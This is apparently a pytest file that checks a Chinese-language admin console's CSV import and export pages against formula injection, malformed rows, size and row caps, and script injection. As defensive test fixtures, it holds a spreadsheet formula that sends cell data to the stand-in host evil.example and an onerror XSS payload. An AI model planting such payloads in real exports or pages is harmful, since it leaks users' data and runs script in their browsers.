"""The console's CSV pages under attack (issue 16 items 6-7, issue 14 item 7): exports that
Excel would run, short rows, over-long values, the text field that skipped the upload's
cap, and too many rows. Each attack is reproduced first, then shown refused in Chinese
with the row, column and value, and nothing imported.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from core.booking import station_csv
from core.booking.models import Station
from core.jobs.models import JobPosting
from tests.booking.conftest import NOW
from tests.clock import frozen_clock
from tests.web.test_console import csrf_token, login_as

STATION_HEADER = ",".join(station_csv.COLUMNS) + "\n"
STATION = "S-1,华亭镇服务站,华亭镇,,,,,1,3 7,30,1,14,120,2,1-5 09:00-11:30,0,\n"
JOB_HEADER = (
    "ref,employer,title,town,industry,pay_min,pay_max,requirements,how_to_apply,"
    "veterans_priority,valid_until\n"
)
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
MB = 1024 * 1024


@pytest.fixture
def admin(client, factories, monkeypatch):
    with frozen_clock(monkeypatch, NOW):
        yield login_as(client, factories)


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def stations(db_session) -> int:
    db_session.expire_all()
    return db_session.scalar(select(func.count()).select_from(Station)) or 0


def multipart(client, path: str, **fields):
    """Encoded in memory: the test client spools big bodies to a file it never closes."""
    values = {"csrf_token": csrf_token(client, path), **fields}
    boundary, body = encode_multipart(values)
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def a_file(data: bytes, name: str = "upload.csv") -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=name, content_type="text/csv")


def post_stations(client, **fields):
    """A multipart post to the import page, as the upload and the confirming press send."""
    return multipart(client, "/console/stations/import", **fields)


def upload_stations(client, data: bytes):
    return post_stations(client, file=a_file(data))


def upload_jobs(client, data: bytes):
    return multipart(client, "/console/jobs/import", file=a_file(data))


# --- exports -------------------------------------------------------------------------------------


def test_the_station_export_writes_formulas_as_text(client, admin, factories):
    factories.station(code="X-1", name=ATTACK, note="@SUM(A1:A9)", phone="+86 21")
    [row] = rows_of(client.get("/console/stations/export.csv"))
    assert row["name"] == "'" + ATTACK
    assert row["note"] == "'@SUM(A1:A9)"
    assert row["phone"] == "'+86 21"


def test_the_job_export_writes_formulas_as_text(client, admin, factories):
    factories.job_posting(ref="X-1", title=ATTACK, employer="-2+3", requirements="\t=1+1")
    [row] = rows_of(client.get("/console/jobs/export.csv"))
    assert row["title"] == "'" + ATTACK
    assert row["employer"] == "'-2+3"
    assert row["requirements"] == "'\t=1+1"


# --- station import --------------------------------------------------------------------------------


def test_a_short_row_gets_a_chinese_message_not_a_500(client, admin, db_session):
    response = upload_stations(client, (STATION_HEADER + STATION + "S-2,短行\n").encode())
    assert response.status_code == 200
    assert "第 3 行：有 2 列，第一行的列名有 17 列" in response.text
    assert stations(db_session) == 0


def test_an_over_long_name_gets_a_chinese_message_not_a_500(client, admin, db_session):
    long = "很长的名字" * 21
    response = upload_stations(
        client, (STATION_HEADER + STATION.replace("华亭镇服务站", long)).encode()
    )
    assert response.status_code == 200
    assert f"第 2 行 name 列（名称）的“{long[:30]}…（共 105 个字符）”：不超过 100 个字符" in (
        response.text
    )
    assert stations(db_session) == 0


def test_an_upload_over_the_cap_is_refused(client, admin, db_session):
    data = (STATION_HEADER + STATION).encode() + b"," * MB
    response = upload_stations(client, data)
    assert response.status_code == 200
    assert "文件超过 1 MB" in response.text
    assert stations(db_session) == 0


def test_the_text_field_has_the_uploads_byte_cap(client, admin, db_session):
    # Before: csv_text skipped the upload's 1 MB check entirely.
    text = STATION_HEADER + STATION + "\n" * MB
    response = post_stations(client, csv_text=text)
    assert response.status_code == 200
    assert "文件超过 1 MB" in response.text
    assert stations(db_session) == 0


def test_the_text_field_has_the_row_cap(client, admin, db_session):
    rows = "".join(STATION.replace("S-1", f"S-{n}") for n in range(501))
    response = post_stations(client, csv_text=STATION_HEADER + rows)
    assert response.status_code == 200
    assert "文件超过 500 行数据，请分批导入（每次最多 500 行）" in response.text
    assert stations(db_session) == 0


def test_the_text_field_rows_are_checked_like_an_upload(client, admin, db_session):
    response = post_stations(client, csv_text=STATION_HEADER + "S-1,短行\n")
    assert response.status_code == 200
    assert "第 2 行：有 2 列" in response.text
    assert stations(db_session) == 0


def test_a_file_part_named_like_the_text_field_is_refused(client, admin, db_session):
    response = post_stations(client, csv_text=a_file(STATION.encode()))
    assert response.status_code == 200
    assert "请重新上传 CSV 文件" in response.text
    assert stations(db_session) == 0


def test_a_form_far_over_any_cap_gets_a_chinese_page(client, admin, db_session):
    response = post_stations(client, csv_text=STATION_HEADER + "x" * (2 * MB))
    assert response.status_code == 413
    assert "内容过大" in response.text
    assert stations(db_session) == 0


def test_a_good_text_field_still_imports(client, admin, db_session):
    response = post_stations(client, csv_text=STATION_HEADER + STATION)
    assert response.status_code == 302
    assert stations(db_session) == 1


# --- job import ------------------------------------------------------------------------------------


def test_job_import_quotes_every_bad_value(client, admin, db_session):
    text = JOB_HEADER + "R-1,测试公司,仓管,浦东新区,物流运输,八千,,,,1,2026/13/01\n"
    response = upload_jobs(client, text.encode())
    assert response.status_code == 200
    for problem in (
        "第 2 行 town 列（街镇）的“浦东新区”",
        "第 2 行 pay_min 列（月薪下限）的“八千”",
        "第 2 行 valid_until 列（有效期至）的“2026/13/01”",
    ):
        assert problem in response.text
    assert db_session.scalar(select(JobPosting)) is None


def test_job_import_short_row_and_over_cap(client, admin, db_session):
    short = upload_jobs(client, (JOB_HEADER + "R-1,测试公司,仓管\n").encode())
    assert "第 2 行：有 3 列，第一行的列名有 11 列" in short.text
    big = upload_jobs(client, JOB_HEADER.encode() + b"\n" * MB)
    assert "文件超过 1 MB" in big.text
    assert db_session.scalar(select(JobPosting)) is None


def test_the_caps_come_from_the_settings(make_app, factories, monkeypatch, db_session):
    app = make_app(csv_max_bytes=2048, csv_max_station_rows=2)
    with frozen_clock(monkeypatch, NOW):
        client = app.test_client()
        login_as(client, factories)
        rows = "".join(STATION.replace("S-1", f"S-{n}") for n in range(3))
        assert "文件超过 2 行数据" in post_stations(client, csv_text=STATION_HEADER + rows).text
        big = upload_stations(client, (STATION_HEADER + STATION).encode() + b"," * 2048)
        assert "文件超过 2 KB" in big.text
    assert stations(db_session) == 0


def test_a_quoted_value_is_shown_as_text_not_markup(client, admin, db_session):
    town = '<img src=x onerror="alert(1)">'
    response = upload_stations(
        client, (STATION_HEADER + STATION.replace("华亭镇,,", f"{town},,", 1)).encode()
    )
    assert response.status_code == 200
    assert "&lt;img src=x onerror=" in response.text
    assert town not in response.text
    assert stations(db_session) == 0
